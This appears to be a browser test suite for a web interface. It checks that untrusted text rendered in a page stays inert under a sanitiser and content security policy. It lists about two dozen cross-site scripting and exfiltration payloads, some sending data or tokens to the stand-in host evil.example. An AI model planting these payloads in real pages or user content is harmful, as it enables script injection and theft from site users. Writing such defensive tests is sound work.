import { describe, expect, test } from "bun:test";
import { openInertBench, type InertBench } from "./testing/inert-bench.ts";

/** Ways to become more than words, one of each kind. */
const TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><circle/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  "[here](javascript:alert(1))",
  "[here](  JaVaScRiPt:alert(1))",
  "![](https://evil.example/?q=secret)",
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x 2x">',
  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/b) }</style>',
  '<div style="background:url(https://evil.example/s)">x</div>',
  '<form action="https://evil.example"><input name="token"><button>ok</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '"><img src=x onerror=alert(1)>',
  "<details open ontoggle=alert(1)>x</details>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<squire-markdown></squire-markdown><squire-app onclick=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "a\u202e<b>\u200b</b>\u0000<script\u0000>alert(1)</script>",
];

/** Those that would load another page leave nothing to look at, where they can. */
const STAYING = TEXTS.filter((text) => !/<meta|<base|<form/.test(text));

const bench = await openInertBench("as it is");

/** Shows them in a page without a guard, and looks until these have come alive. */
async function shownUntil(
  open: InertBench | null,
  ...beginnings: readonly string[]
): Promise<readonly string[]> {
  let found = (await open?.show(STAYING)) ?? [];
  while (!beginnings.every((one) => found.some((what) => what.startsWith(one)))) {
    found = (await open?.look()) ?? [];
  }
  return found;
}

describe.skipIf(bench === null)("text of strangers in a real browser", () => {
  test("WUI-3: nothing of it runs and nothing is asked for, wherever it stands", async () => {
    await using open = bench;
    expect(await open?.show(TEXTS)).toEqual([]);
  });

  test("WUI-3 (part): a page that believes HTML is seen, and its policy still stops what runs", async () => {
    await using open = await openInertBench("without sanitiser");
    const stopped = ["the policy stopped script-src", "the policy stopped img-src"];
    const found = await shownUntil(open, ...stopped);
    expect(found.some((what) => what.includes(" ran"))).toBe(false);
    expect(found.some((what) => what.startsWith("a request to"))).toBe(false);
  });

  test("WUI-3 (part): without the policy too, it runs and asks: the watch sees both", async () => {
    await using open = await openInertBench("without anything");
    const found = await shownUntil(open, "alert ran", "a request to https://evil.example/");
    expect(found).toContain("alert ran");
  });
});
